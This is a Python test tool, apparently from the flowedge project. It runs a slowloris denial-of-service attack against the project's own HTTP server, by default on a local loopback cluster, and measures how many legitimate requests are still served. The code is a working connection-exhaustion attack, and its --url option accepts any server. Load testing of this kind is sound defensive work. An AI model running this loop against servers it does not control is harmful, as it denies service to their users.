"""A slowloris against `flowedge http`: `--connections` connections from one loopback address trickle
request headers (one short header line every --trickle s, reopened whenever the server closes them) while
legitimate clients on another address ask /health and short completions; prints the fraction served.

    python tools/slowloris.py                          # starts a tiny cluster and its HTTP front
    python tools/slowloris.py --url http://127.0.0.1:8080
"""
from __future__ import annotations

import argparse
import json
import logging
import os
import socket
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import httpx

log = logging.getLogger("slowloris")


@dataclass
class Figures:
    legit: int = 0
    served: int = 0
    refused: dict = field(default_factory=dict)   # status or error -> count
    opened: int = 0                                 # slow connections opened (reopens included)
    lock: threading.Lock = field(default_factory=threading.Lock)


def slow_connections(host: str, port: int, source: str, n: int, trickle_s: float, stop: threading.Event,
                     fig: Figures) -> None:
    """Keep `n` connections from `source` each sending one header line every `trickle_s`, never finishing."""
    socks: list[socket.socket | None] = [None] * n
    while not stop.is_set():
        for i in range(n):
            try:
                if socks[i] is None:
                    s = socket.create_connection((host, port), timeout=2, source_address=(source, 0))
                    s.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\n")
                    socks[i] = s
                    with fig.lock:
                        fig.opened += 1
                socks[i].sendall(b"X-Slow: %d\r\n" % i)
            except OSError:   # the server closed it (or refused it): open another
                if socks[i] is not None:
                    socks[i].close()
                socks[i] = None
        stop.wait(trickle_s)
    for s in socks:
        if s is not None:
            s.close()


def legit_client(base: str, stop: threading.Event, fig: Figures, k: int) -> None:
    """/health and 4-token completions in turn, from the default (127.0.0.1) address."""
    with httpx.Client(base_url=base, timeout=30) as c:
        n = 0
        while not stop.is_set():
            n += 1
            try:
                if n % 2:
                    r = c.get("/health")
                else:
                    r = c.post("/v1/completions", json={"prompt": "Once upon a time", "max_tokens": 4,
                                                        "temperature": 0})
                what = r.status_code
            except httpx.HTTPError as err:
                what = type(err).__name__
            with fig.lock:
                fig.legit += 1
                if what == 200:
                    fig.served += 1
                else:
                    fig.refused[str(what)] = fig.refused.get(str(what), 0) + 1
            stop.wait(0.2)


def attack(base: str, args) -> dict:
    url = urlsplit(base)
    fig, stop = Figures(), threading.Event()
    threads = [threading.Thread(target=slow_connections, daemon=True,
                                args=(url.hostname, url.port, args.source, args.connections, args.trickle, stop, fig))]
    threads[0].start()
    time.sleep(2.0)   # the slow connections are in place before the legitimate clients come
    threads += [threading.Thread(target=legit_client, args=(base, stop, fig, k), daemon=True)
                for k in range(args.clients)]
    for t in threads[1:]:
        t.start()
    stop.wait(args.duration)
    stop.set()
    for t in threads:
        t.join(60)
    return {"connections": args.connections, "source": args.source, "duration_s": args.duration,
            "slow_opened": fig.opened, "legit": fig.legit, "served": fig.served, "refused": fig.refused,
            "served_fraction": round(fig.served / fig.legit, 4) if fig.legit else None}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--url", default=None, help="a running `flowedge http` (default: start a tiny cluster)")
    ap.add_argument("--connections", type=int, default=200)
    ap.add_argument("--source", default="127.0.0.2", help="the attacker's address (a loopback alias)")
    ap.add_argument("--duration", type=float, default=60.0)
    ap.add_argument("--trickle", type=float, default=1.0, help="seconds between one connection's header lines")
    ap.add_argument("--clients", type=int, default=4, help="legitimate clients (from 127.0.0.1)")
    ap.add_argument("--json", default=None)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    logging.getLogger("httpx").setLevel(logging.WARNING)
    procs = None
    base = args.url
    if base is None:
        import soak

        home = Path(tempfile.mkdtemp(prefix="flowedge-slowloris-"))
        os.environ["FLOWEDGE_HOME"] = str(home)
        procs = soak.start(soak.ClusterOptions(), home)
        base = procs.base
    try:
        fig = attack(base, args)
    finally:
        if procs is not None:
            procs.http.terminate()
            procs.http.wait(20)
            procs.cluster.stop()
    print(f"{fig['connections']} slow connections from {fig['source']} for {fig['duration_s']:.0f} s "
          f"({fig['slow_opened']} opened in all): legitimate requests served {fig['served']}/{fig['legit']} "
          f"= {100 * (fig['served_fraction'] or 0):.2f}%  refused {json.dumps(fig['refused'])}")
    if args.json:
        Path(args.json).write_text(json.dumps(fig, indent=2) + "\n")


if __name__ == "__main__":
    main()
